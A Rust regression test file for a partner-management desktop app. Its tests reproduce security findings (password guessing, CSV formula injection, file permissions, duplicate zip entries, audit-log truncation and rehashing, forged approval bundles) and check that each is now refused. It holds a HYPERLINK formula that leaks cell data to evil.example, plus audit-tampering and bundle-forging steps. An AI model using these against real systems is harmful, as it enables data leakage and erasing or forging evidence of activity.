//! Findings of the security pass (issue 21), each reproduced and now refused: parallel
//! password guessing, formulas in CSV exports, a data folder other accounts can read, a
//! bundle whose archive names an entry twice, the newest audit entries cut (the sequence
//! reset and a sign-in written after them), and a chain rebuilt with the database key alone.

mod common;

use channeldesk::audit;
use channeldesk::sheets::{self, Labels, ListKind};
use channeldesk::{Error, partners, users};
use common::{OWNER_PASSWORD, desk, partner};

/// 40 sign-ins with a wrong password at once: the attempts are reserved before the hash is
/// computed, so only the free ones are checked and the rest wait (before: all 40 "wrong").
#[tokio::test]
async fn parallel_password_guessing_is_throttled() {
    let t = desk().await;
    users::sign_out(&t.desk).await.unwrap();
    let tries = (0..40).map(|i| {
        let desk = &t.desk;
        async move { users::sign_in(desk, "owner", &format!("guess-{i}")).await }
    });
    let results = futures_util::future::join_all(tries).await;
    let wrong = results.iter().filter(|r| matches!(r, Err(Error::Validation(_)))).count();
    let throttled = results.iter().filter(|r| matches!(r, Err(Error::Throttled { .. }))).count();
    assert_eq!(wrong + throttled, 40, "{results:?}");
    assert!(wrong <= users::FREE_ATTEMPTS as usize + 1, "{wrong} passwords checked, {throttled} throttled");
    // The right password waits too until the delay has passed.
    assert!(matches!(users::sign_in(&t.desk, "owner", OWNER_PASSWORD).await, Err(Error::Throttled { .. })));
    t.desk.close().await;
}

fn labels() -> Labels {
    Labels::default()
}

/// A kiosk visitor's company name written as a formula reaches a CSV as text.
#[tokio::test]
async fn csv_exports_carry_no_formulas() {
    let t = desk().await;
    let evil = "=HYPERLINK(\"http://evil.example/?\"&A2,\"详情\")";
    partners::create(&t.desk, &partner(evil), false).await.unwrap();
    let mut p = partner("正常公司有限公司");
    p.notes = "@SUM(1+1)".into();
    partners::create(&t.desk, &p, false).await.unwrap();
    let dir = tempfile::tempdir().unwrap();
    let csv = dir.path().join("partners.csv");
    let table = sheets::table(&t.desk, &ListKind::Partners).await.unwrap();
    sheets::write_csv(&csv, &table, &labels()).unwrap();
    let text = String::from_utf8(std::fs::read(&csv).unwrap()).unwrap();
    let mut reader = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    let cells: Vec<String> =
        reader.records().flat_map(|r| r.unwrap().iter().map(String::from).collect::<Vec<_>>()).collect();
    assert!(cells.iter().any(|c| c == &format!("'{evil}")), "{cells:?}");
    for c in &cells {
        assert!(!matches!(c.chars().next(), Some('=' | '+' | '@' | '\t' | '\r')), "formula cell {c:?}");
    }
    // The audit trail's CSV goes through the same rule.
    let audit_csv = dir.path().join("audit.csv");
    channeldesk::audit::export_csv(&t.desk, &Default::default(), &audit_csv).await.unwrap();
    let text = String::from_utf8(std::fs::read(&audit_csv).unwrap()).unwrap();
    let mut reader = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    for r in reader.records() {
        for c in r.unwrap().iter() {
            assert!(!matches!(c.chars().next(), Some('=' | '+' | '@' | '\t' | '\r')), "formula cell {c:?}");
        }
    }
    t.desk.close().await;
}

/// The data folder is the owner's alone (before: 0755, the recovery kit 0644 inside).
#[cfg(unix)]
#[tokio::test]
async fn the_data_folder_is_private_to_its_owner() {
    use std::os::unix::fs::PermissionsExt;
    let t = desk().await;
    let mode = std::fs::metadata(t.dir.path()).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o700, "data folder mode {mode:o}");
    // A folder made readable by hand is closed again at the next open.
    std::fs::set_permissions(t.dir.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    let t = t.reopen().await;
    assert_eq!(std::fs::metadata(t.dir.path()).unwrap().permissions().mode() & 0o777, 0o700);
    // Every file in it is the owner's alone: the database, its key id, the chain head.
    for name in ["channeldesk.sqlite3", "channeldesk.keyid", channeldesk::audit::HEAD_FILE] {
        let m = std::fs::metadata(t.dir.path().join(name)).unwrap().permissions().mode() & 0o777;
        assert_eq!(m, 0o600, "{name} mode {m:o}");
    }
    // The recovery kit holds the key: saved 0600 wherever it goes.
    let kit = t.dir.path().join("kit.pdf");
    channeldesk::documents::recovery_kit::save(&t.desk, &t.keychain, &kit).await.unwrap();
    assert_eq!(std::fs::metadata(&kit).unwrap().permissions().mode() & 0o777, 0o600);
    t.desk.close().await;
}

/// Finding 5: printed agreements were kept for good, unencrypted, in the data folder's
/// `prints/`. Now a print goes to a private temporary folder of its own (0700, the file 0600)
/// and is removed at the next start or exit, with what an earlier version left in `prints/`.
#[cfg(unix)]
#[tokio::test]
async fn printed_copies_are_private_and_do_not_stay() {
    use channeldesk::documents::{self, Printed};
    use std::os::unix::fs::PermissionsExt;
    let t = desk().await;
    let printed = Printed { bytes: b"%PDF-1.7 test".to_vec(), file_name: "HT-2026-0001.pdf".into() };
    let path = documents::write_to_prints(&t.desk, &printed).unwrap();
    assert!(!path.starts_with(t.dir.path()), "not beside the database: {path:?}");
    assert_eq!(path.parent().unwrap(), documents::prints_dir(t.dir.path()));
    let mode = |p: &std::path::Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
    assert_eq!((mode(path.parent().unwrap()), mode(&path)), (0o700, 0o600));
    // Another data folder has a folder of its own.
    let other = desk().await;
    assert_ne!(documents::prints_dir(other.dir.path()), documents::prints_dir(t.dir.path()));
    // What an earlier version kept in the data folder goes too.
    std::fs::create_dir_all(t.dir.path().join("prints")).unwrap();
    std::fs::write(t.dir.path().join("prints").join("old.pdf"), b"%PDF").unwrap();
    assert_eq!(documents::clear_prints(t.dir.path()), 2);
    assert!(!path.exists() && !t.dir.path().join("prints").exists());
    assert_eq!(documents::clear_prints(t.dir.path()), 0);
    t.desk.close().await;
    other.desk.close().await;
}

/// A bundle whose archive holds two entries of one name is refused (the reader keeps one per
/// name, so the second could hide from the check).
#[tokio::test]
async fn a_bundle_naming_an_entry_twice_is_refused() {
    use std::io::Write as _;
    let t = desk().await;
    partners::create(&t.desk, &partner("重复条目测试有限公司"), false).await.unwrap();
    let ex = channeldesk::share::export(
        &t.desk,
        &channeldesk::share::ExportScope::All,
        None,
        &channeldesk::share::Progress::silent(),
    )
    .await
    .unwrap();
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(ex.bytes.clone())).unwrap();
    let mut out = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let opts = zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored);
    let mut first = None;
    for i in 0..zip.len() {
        let mut f = zip.by_index(i).unwrap();
        let name = f.name().unwrap().to_string();
        let mut buf = Vec::new();
        std::io::Read::read_to_end(&mut f, &mut buf).unwrap();
        out.start_file(name.clone(), opts).unwrap();
        out.write_all(&buf).unwrap();
        if name != "manifest.json" && first.is_none() {
            first = Some((name, buf));
        }
    }
    let (name, buf) = first.unwrap();
    // zip's writer refuses a duplicate name: append the second copy through the raw
    // central directory instead (as a hand-made archive would).
    let archive = out.finish().unwrap().into_inner();
    let crafted = duplicate_entry(&archive, &name, &buf);
    let err = channeldesk::share::open(&crafted, None, &channeldesk::share::Limits::default()).unwrap_err();
    assert!(matches!(err, Error::Import { reason: "bad_name", .. }), "{err:?}");
    // The untouched bundle still opens.
    channeldesk::share::open(&ex.bytes, None, &channeldesk::share::Limits::default()).unwrap();
    t.desk.close().await;
}

/// `archive` with one more stored entry `name` (local header + data before the central
/// directory, its central record added, the end record counting it).
fn duplicate_entry(archive: &[u8], name: &str, data: &[u8]) -> Vec<u8> {
    let eocd = archive.windows(4).rposition(|w| w == b"PK\x05\x06").unwrap();
    let cd_size = u32::from_le_bytes(archive[eocd + 12..eocd + 16].try_into().unwrap()) as usize;
    let cd_off = u32::from_le_bytes(archive[eocd + 16..eocd + 20].try_into().unwrap()) as usize;
    let entries = u16::from_le_bytes(archive[eocd + 10..eocd + 12].try_into().unwrap());
    let crc = crc32(data);
    let mut out = archive[..cd_off].to_vec();
    let local_off = out.len() as u32;
    let n = name.as_bytes();
    out.extend_from_slice(b"PK\x03\x04");
    out.extend_from_slice(&[20, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
    out.extend_from_slice(&crc.to_le_bytes());
    out.extend_from_slice(&(data.len() as u32).to_le_bytes());
    out.extend_from_slice(&(data.len() as u32).to_le_bytes());
    out.extend_from_slice(&(n.len() as u16).to_le_bytes());
    out.extend_from_slice(&0u16.to_le_bytes());
    out.extend_from_slice(n);
    out.extend_from_slice(data);
    let new_cd_off = out.len();
    out.extend_from_slice(&archive[cd_off..cd_off + cd_size]);
    out.extend_from_slice(b"PK\x01\x02");
    out.extend_from_slice(&[20, 0, 20, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
    out.extend_from_slice(&crc.to_le_bytes());
    out.extend_from_slice(&(data.len() as u32).to_le_bytes());
    out.extend_from_slice(&(data.len() as u32).to_le_bytes());
    out.extend_from_slice(&(n.len() as u16).to_le_bytes());
    out.extend_from_slice(&[0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
    out.extend_from_slice(&local_off.to_le_bytes());
    out.extend_from_slice(n);
    let new_cd_size = out.len() - new_cd_off;
    out.extend_from_slice(b"PK\x05\x06\0\0\0\0");
    out.extend_from_slice(&(entries + 1).to_le_bytes());
    out.extend_from_slice(&(entries + 1).to_le_bytes());
    out.extend_from_slice(&(new_cd_size as u32).to_le_bytes());
    out.extend_from_slice(&(new_cd_off as u32).to_le_bytes());
    out.extend_from_slice(&0u16.to_le_bytes());
    out
}

fn crc32(data: &[u8]) -> u32 {
    let mut crc = 0xFFFF_FFFFu32;
    for &b in data {
        crc ^= u32::from(b);
        for _ in 0..8 {
            crc = if crc & 1 == 1 { (crc >> 1) ^ 0xEDB8_8320 } else { crc >> 1 };
        }
    }
    !crc
}

/// Finding 2: with the database key, drop the delete trigger, remove the 5 newest entries and
/// reset the sequence so the numbers run on without a gap; restart and sign in (which writes
/// a new entry after the cut). Before, `verify` said intact; now the head kept beside the
/// database names the cut, at the next start and in every verification after.
#[tokio::test]
async fn cutting_the_newest_audit_entries_is_found_after_a_restart_and_a_sign_in() {
    let t = desk().await;
    for i in 0..8 {
        partners::create(&t.desk, &partner(&format!("截尾测试{i}有限公司")), false).await.unwrap();
    }
    let ok = audit::verify(&t.desk).await.unwrap();
    assert!(ok.intact, "{ok:?}");
    assert_eq!(ok.signed, ok.entries, "every entry is signed by this laptop");
    assert_eq!((ok.unsigned_before, ok.devices), (0, 1));
    let last: i64 =
        sqlx::query_scalar("SELECT max(seq) FROM audit_log").fetch_one(t.desk.pool()).await.unwrap();
    assert_eq!(ok.kept_head, Some(last), "the head beside the database is the newest entry");
    let head: audit::Head =
        serde_json::from_slice(&std::fs::read(t.dir.path().join(audit::HEAD_FILE)).unwrap()).unwrap();
    assert!(head.holds());

    let pool = t.desk.pool().clone();
    sqlx::query("DROP TRIGGER audit_log_no_delete").execute(&pool).await.unwrap();
    sqlx::query("DELETE FROM audit_log WHERE seq > ?").bind(last - 5).execute(&pool).await.unwrap();
    sqlx::query("UPDATE sqlite_sequence SET seq = ? WHERE name = 'audit_log'")
        .bind(last - 5)
        .execute(&pool)
        .await
        .unwrap();
    // Found at once…
    let r = audit::verify(&t.desk).await.unwrap();
    assert!(!r.intact);
    assert_eq!(r.broken_at.unwrap().reason, format!("head_cut:{last}"));
    // …and after a restart whose sign-in wrote a new entry linked to the cut tail.
    let t = t.reopen().await;
    let r = audit::verify(&t.desk).await.unwrap();
    assert!(!r.intact, "{r:?}");
    assert_eq!(r.alarms.len(), 1);
    assert_eq!(r.alarms[0].problem, format!("head_cut:{last}"));
    assert_eq!(r.broken_at.unwrap().reason, format!("head_cut:{last}"));
    // A file whose chain was never cut opens without an alarm.
    let clean = desk().await;
    let clean = clean.reopen().await;
    assert!(audit::verify(&clean.desk).await.unwrap().alarms.is_empty());
    t.desk.close().await;
    clean.desk.close().await;
}

/// With the database key alone, an entry's content is edited and the whole hash chain after
/// it recomputed (the formula is public): the hashes all hold again, but the entry's
/// signature does not, and the edit is named.
#[tokio::test]
async fn a_chain_rebuilt_with_the_database_key_alone_fails_its_signatures() {
    use sha2::{Digest, Sha256};
    let t = desk().await;
    for i in 0..4 {
        partners::create(&t.desk, &partner(&format!("重算测试{i}有限公司")), false).await.unwrap();
    }
    let pool = t.desk.pool().clone();
    sqlx::query("DROP TRIGGER audit_log_no_update").execute(&pool).await.unwrap();
    let rows: Vec<(i64, String, String)> = sqlx::query_as(
        "SELECT seq, json_array(id, at, hlc, device_id, user_id, user_name, role, operation, entity, entity_id),
            changes FROM audit_log ORDER BY seq",
    )
    .fetch_all(&pool)
    .await
    .unwrap();
    let target = rows[rows.len() - 2].0;
    let mut prev = String::new();
    for (seq, fields, changes) in &rows {
        let changes = if *seq == target {
            "{\"name\":[null,\"改过的公司\"]}".to_string()
        } else {
            changes.clone()
        };
        let mut canonical = vec![serde_json::Value::String(prev.clone())];
        canonical.extend(serde_json::from_str::<Vec<serde_json::Value>>(fields).unwrap());
        canonical.push(changes.clone().into());
        let canonical = serde_json::Value::Array(canonical);
        let hash = hex::encode(Sha256::digest(canonical.to_string().as_bytes()));
        sqlx::query("UPDATE audit_log SET changes = ?, prev_hash = ?, hash = ? WHERE seq = ?")
            .bind(&changes)
            .bind(&prev)
            .bind(&hash)
            .bind(seq)
            .execute(&pool)
            .await
            .unwrap();
        prev = hash;
    }
    let r = audit::verify(&t.desk).await.unwrap();
    assert!(!r.intact);
    let b = r.broken_at.unwrap();
    assert_eq!((b.seq, b.reason.as_str()), (target, "signature"));
    t.desk.close().await;
}

/// Packs `entries` again with the manifest's sizes and SHA-256 recomputed, signed by `key`
/// (the manifest then names `key`) or keeping the old signature.
fn repack(mut entries: Vec<(String, Vec<u8>)>, key: Option<&channeldesk::signing::DeviceKey>) -> Vec<u8> {
    use std::io::Write as _;
    let at = entries.iter().position(|(n, _)| n == "manifest.json").unwrap();
    let mut m: serde_json::Value = serde_json::from_slice(&entries[at].1).unwrap();
    m["entries"] = entries
        .iter()
        .filter(|(n, _)| n != "manifest.json" && n != "manifest.sig")
        .map(|(n, b)| serde_json::json!({"name": n, "size": b.len(), "sha256": channeldesk::share::bundle::sha256_hex(b)}))
        .collect();
    if let Some(k) = key {
        m["public_key"] = k.public_hex().into();
    }
    entries[at].1 = serde_json::to_vec_pretty(&m).unwrap();
    if let Some(k) = key {
        let sig = k.sign(channeldesk::signing::Purpose::Bundle, &entries[at].1);
        entries.iter_mut().find(|(n, _)| n == "manifest.sig").unwrap().1 = sig.into_bytes();
    }
    let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    for (name, data) in &entries {
        w.start_file(name.as_str(), zip::write::SimpleFileOptions::default()).unwrap();
        w.write_all(data).unwrap();
    }
    w.finish().unwrap().into_inner()
}

/// Changes the JSON line of `table` whose id is `id` in `entries`.
fn edit_row(
    entries: &mut [(String, Vec<u8>)],
    table: &str,
    id: &str,
    mut f: impl FnMut(&mut serde_json::Value),
) {
    let e = entries.iter_mut().find(|(n, _)| *n == format!("rows/{table}.jsonl")).unwrap();
    let text = String::from_utf8(e.1.clone()).unwrap();
    let lines: Vec<String> = text
        .lines()
        .map(|l| {
            let mut v: serde_json::Value = serde_json::from_str(l).unwrap();
            if v["id"] == id {
                f(&mut v);
            }
            v.to_string()
        })
        .collect();
    e.1 = (lines.join("\n") + "\n").into_bytes();
}

fn import_reason(b: &common::TestDesk, bytes: &[u8]) -> String {
    use channeldesk::share::{self, ApplyChoices, Limits, Progress};
    let incoming = match share::open(bytes, None, &Limits::default()) {
        Ok(i) => i,
        Err(Error::Import { reason, .. }) => return reason.to_string(),
        Err(e) => panic!("{e:?}"),
    };
    let choices = ApplyChoices { token: incoming.token.clone(), merge: vec![] };
    let rt = tokio::runtime::Handle::current();
    match tokio::task::block_in_place(|| {
        rt.block_on(share::apply(&b.desk, &incoming, &choices, &Progress::silent()))
    }) {
        Ok(_) => "applied".into(),
        Err(Error::Import { reason, .. }) => reason.to_string(),
        Err(e) => format!("{e:?}"),
    }
}

/// Finding 1: an agreement in review on laptop A; its bundle is unzipped, the agreement set to
/// approved with a later clock, an audit entry naming the legal reviewer appended, the
/// manifest's checksums recomputed and the file zipped again. Before: the channel staff's
/// import on B approved it. Now it is refused whichever way it is made (the old signature, an
/// unpaired key, a paired laptop that re-signs it, the clock of a real entry borrowed), and
/// B's agreement stays in review.
/// An annual evaluation round opens every active partner's evaluation with one signed entry
/// about the round: a bundle of all partners, or of some, carries that entry and imports on a
/// paired laptop (before, the open evaluations were refused as `state` uncovered and nothing
/// could be shared once a round had started).
#[tokio::test(flavor = "multi_thread")]
async fn evaluations_opened_by_a_round_travel_in_bundles() {
    use channeldesk::share::{self, ExportScope, Progress};
    let a = desk().await;
    let b = desk().await;
    let c = desk().await;
    common::pair(&[&a, &b, &c]).await;
    let mut ids = Vec::new();
    for (name, code) in
        [("评估轮次甲有限公司", "91440300M000400Y7"), ("评估轮次乙有限公司", "91440300M000500Y8")]
    {
        let mut p = partner(name);
        p.credit_code = format!("{code}{}", channeldesk::validate::credit_code_check_char(code).unwrap());
        ids.push(common::migrated(&a, p).await);
    }
    let round = channeldesk::evaluation::start_round(&a.desk, 2026).await.unwrap();
    assert_eq!(round.created, 2);
    let open = |t: &common::TestDesk| {
        let pool = t.desk.pool().clone();
        async move {
            sqlx::query_scalar::<_, i64>("SELECT count(*) FROM evaluation WHERE status = 'open'")
                .fetch_one(&pool)
                .await
                .unwrap()
        }
    };
    let all = share::export(&a.desk, &ExportScope::All, None, &Progress::silent()).await.unwrap().bytes;
    assert_eq!(import_reason(&b, &all), "applied");
    assert_eq!(open(&b).await, 2);
    let some = ExportScope::Partners { ids: vec![ids[0].clone()] };
    let one = share::export(&a.desk, &some, None, &Progress::silent()).await.unwrap().bytes;
    assert_eq!(import_reason(&c, &one), "applied");
    assert_eq!(open(&c).await, 1);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_hand_edited_bundle_cannot_forge_an_approval() {
    use channeldesk::access::Role;
    use channeldesk::share::{self, ExportScope, Progress};
    let a = desk().await;
    let b = desk().await;
    common::pair(&[&a, &b]).await;
    common::add_user(&a, "legal", Role::Legal).await;
    let pid = partners::create(&a.desk, &partner("伪造审批测试有限公司"), false).await.unwrap().id;
    let ag = common::submitted_agreement(&a, &pid).await;
    // The drafter comments on the agreement in review: a real entry about it, signed by A.
    let note = channeldesk::agreements::CommentInput {
        clause_key: "term".into(),
        text: "期限请再确认".into(),
    };
    channeldesk::agreements::comment(&a.desk, &ag.row.id, &note).await.unwrap();
    let bundle = share::export(&a.desk, &ExportScope::All, None, &Progress::silent()).await.unwrap().bytes;
    assert_eq!(import_reason(&b, &bundle), "applied", "the honest bundle imports");
    let status = |t: &common::TestDesk| {
        let pool = t.desk.pool().clone();
        let id = ag.row.id.clone();
        async move {
            sqlx::query_scalar::<_, String>("SELECT status FROM agreement WHERE id = ?")
                .bind(id)
                .fetch_one(&pool)
                .await
                .unwrap()
        }
    };
    assert_eq!(status(&b).await, "in_review");
    let audit_before: i64 =
        sqlx::query_scalar("SELECT count(*) FROM audit_log").fetch_one(b.desk.pool()).await.unwrap();

    // The forgery: status approved at a later clock, and an entry naming the legal reviewer.
    let legal_id: String = sqlx::query_scalar("SELECT id FROM app_user WHERE login = 'legal'")
        .fetch_one(a.desk.pool())
        .await
        .unwrap();
    let later = |h: &str| format!("{}z", h);
    let mut forged = common::bundle_entries(&bundle);
    let mut forged_clock = String::new();
    edit_row(&mut forged, "agreement", &ag.row.id, |v| {
        let h = later(v["hlc"].as_str().unwrap());
        forged_clock = h.clone();
        v["status"] = "approved".into();
        v["hlc"] = h.clone().into();
        let mut clocks: serde_json::Value = serde_json::from_str(v["field_hlc"].as_str().unwrap()).unwrap();
        clocks["status"] = h.into();
        v["field_hlc"] = clocks.to_string().into();
    });
    let entry = serde_json::json!({
        "id": "forged-entry", "at": "2026-03-01T10:00:00.000Z", "hlc": forged_clock,
        "device_id": a.desk.device().id, "user_id": legal_id, "user_name": "legal", "role": "legal",
        "operation": "review", "entity": "agreement", "entity_id": ag.row.id,
        "changes": "{\"status\":[\"in_review\",\"approved\"]}", "sig": "00"
    });
    let e = forged.iter_mut().find(|(n, _)| n == "rows/audit_log.jsonl").unwrap();
    e.1.extend_from_slice(format!("{entry}\n").as_bytes());

    // 1. Checksums recomputed, the exporter's signature kept: the signature fails.
    assert_eq!(import_reason(&b, &repack(forged.clone(), None)), "signature");
    // 2. Signed by a key of the forger's own: an unpaired laptop, nothing compared.
    let own = channeldesk::signing::DeviceKey::generate();
    let unpaired = repack(forged.clone(), Some(&own));
    let incoming = share::open(&unpaired, None, &share::Limits::default()).unwrap();
    let pv = share::preview(&b.desk, &incoming, &Progress::silent()).await.unwrap();
    let p = pv.pairing.expect("the preview asks for pairing");
    assert_eq!(p.fingerprint, channeldesk::signing::fingerprint(&own.public_hex()));
    assert!(p.key_changed, "laptop A was paired with another key");
    assert!(pv.kinds.is_empty() && !pv.changes);
    assert_eq!(import_reason(&b, &unpaired), "unpaired");
    // 3. A paired laptop re-signs it: the forged entry's own signature fails.
    let rogue = channeldesk::signing::DeviceKey::generate();
    let mut as_a = share::trust::identity(&a.desk);
    as_a.public_key = rogue.public_hex();
    as_a.fingerprint = channeldesk::signing::fingerprint(&rogue.public_hex());
    share::trust::pair(&b.desk, &as_a).await.unwrap();
    let audit_before = audit_before + 1; // the pairing
    assert_eq!(import_reason(&b, &repack(forged.clone(), Some(&rogue))), "signature");
    // 4. No forged entry; the status's clock a new one no entry has, then one borrowed from a
    // real entry about the agreement (the drafter's comment, signed by A): the drafter may
    // not approve.
    let mut borrowed = common::bundle_entries(&bundle);
    let real_clock: String = sqlx::query_scalar(
        "SELECT hlc FROM audit_log WHERE entity = 'agreement' AND entity_id = ? AND operation = 'comment'",
    )
    .bind(&ag.row.id)
    .fetch_one(a.desk.pool())
    .await
    .unwrap();
    edit_row(&mut borrowed, "agreement", &ag.row.id, |v| {
        v["status"] = "approved".into();
        let mut clocks: serde_json::Value = serde_json::from_str(v["field_hlc"].as_str().unwrap()).unwrap();
        clocks["status"] = later(&real_clock).into();
        v["field_hlc"] = clocks.to_string().into();
        v["hlc"] = later(&real_clock).into();
    });
    assert_eq!(import_reason(&b, &repack(borrowed.clone(), Some(&rogue))), "uncovered");
    edit_row(&mut borrowed, "agreement", &ag.row.id, |v| {
        let mut clocks: serde_json::Value = serde_json::from_str(v["field_hlc"].as_str().unwrap()).unwrap();
        clocks["status"] = real_clock.clone().into();
        v["field_hlc"] = clocks.to_string().into();
        v["hlc"] = later(&real_clock).into();
    });
    assert_eq!(import_reason(&b, &repack(borrowed, Some(&rogue))), "state");
    // Nothing of it landed.
    assert_eq!(status(&b).await, "in_review");
    let audit_after: i64 =
        sqlx::query_scalar("SELECT count(*) FROM audit_log").fetch_one(b.desk.pool()).await.unwrap();
    assert_eq!(audit_after, audit_before);
    assert!(channeldesk::audit::verify(&b.desk).await.unwrap().intact);
    a.desk.close().await;
    b.desk.close().await;
}

/// Pairing: a bundle from a laptop never paired is not compared, and the preview shows the
/// fingerprint that laptop shows; only an administrator pairs, only with that fingerprint;
/// then it imports. A later bundle whose chain head is behind the one seen is reported.
#[tokio::test(flavor = "multi_thread")]
async fn laptops_are_paired_by_fingerprint_and_a_rewound_trail_is_witnessed() {
    use channeldesk::access::Role;
    use channeldesk::share::{self, ExportScope, Progress, trust};
    let a = desk().await;
    let b = desk().await;
    for i in 0..4 {
        partners::create(&a.desk, &partner(&format!("配对测试{i}有限公司")), false).await.unwrap();
    }
    let bundle = share::export(&a.desk, &ExportScope::All, None, &Progress::silent()).await.unwrap().bytes;
    let incoming = share::open(&bundle, None, &share::Limits::default()).unwrap();
    let pv = share::preview(&b.desk, &incoming, &Progress::silent()).await.unwrap();
    let p = pv.pairing.expect("unpaired");
    let shown_on_a = trust::identity(&a.desk);
    assert_eq!(p.fingerprint, shown_on_a.fingerprint);
    assert!(!p.key_changed);
    assert_eq!(import_reason(&b, &bundle), "unpaired");
    // A wrong fingerprint, and a colleague who is not an administrator.
    let mut wrong = trust::PairInput {
        device_id: p.device_id.clone(),
        device_code: p.device_code.clone(),
        public_key: p.public_key.clone(),
        fingerprint: "AAAAA-AAAAA-AAAAA-AAAAA".into(),
    };
    assert!(matches!(trust::pair(&b.desk, &wrong).await, Err(Error::Validation(_))));
    common::add_user(&b, "chan", Role::Channel).await;
    common::as_user(&b, "chan").await;
    wrong.fingerprint = p.fingerprint.to_lowercase().replace('-', " ");
    assert_eq!(trust::pair(&b.desk, &wrong).await.unwrap_err().code(), "forbidden");
    common::as_user(&b, "owner").await;
    let keys = trust::pair(&b.desk, &wrong).await.unwrap();
    assert!(keys.iter().any(|k| k.source == "paired" && k.fingerprint == p.fingerprint));
    assert_eq!(import_reason(&b, &bundle), "applied");
    // Laptop A's newest entries are cut (and the head beside its database with them); its
    // next bundle shows a head behind the one B witnessed.
    let seen: i64 = sqlx::query_scalar("SELECT head_seq FROM sync_peer WHERE device_id = ?")
        .bind(&a.desk.device().id)
        .fetch_one(b.desk.pool())
        .await
        .unwrap();
    assert!(seen > 0);
    let pool = a.desk.pool().clone();
    sqlx::query("DROP TRIGGER audit_log_no_delete").execute(&pool).await.unwrap();
    sqlx::query("DELETE FROM audit_log WHERE seq > ?").bind(seen - 4).execute(&pool).await.unwrap();
    sqlx::query("UPDATE sqlite_sequence SET seq = ? WHERE name = 'audit_log'")
        .bind(seen - 4)
        .execute(&pool)
        .await
        .unwrap();
    std::fs::remove_file(a.dir.path().join(channeldesk::audit::HEAD_FILE)).unwrap();
    let a = a.reopen().await;
    let cut = share::export(&a.desk, &ExportScope::All, None, &Progress::silent()).await.unwrap().bytes;
    let incoming = share::open(&cut, None, &share::Limits::default()).unwrap();
    let pv = share::preview(&b.desk, &incoming, &Progress::silent()).await.unwrap();
    let (was, now) = pv.rewound.expect("the rewind is reported");
    assert_eq!(was, seen);
    assert!(now < seen, "{now} < {seen}");
    assert_eq!(import_reason(&b, &cut), "applied");
    let noted: String = sqlx::query_scalar(
        "SELECT changes FROM audit_log WHERE operation = 'import' ORDER BY seq DESC LIMIT 1",
    )
    .fetch_one(b.desk.pool())
    .await
    .unwrap();
    assert!(noted.contains("trail_rewound"), "{noted}");
    // A itself found its head missing at the restart.
    let r = channeldesk::audit::verify(&a.desk).await.unwrap();
    assert_eq!(r.alarms[0].problem, "head_missing");
    a.desk.close().await;
    b.desk.close().await;
}
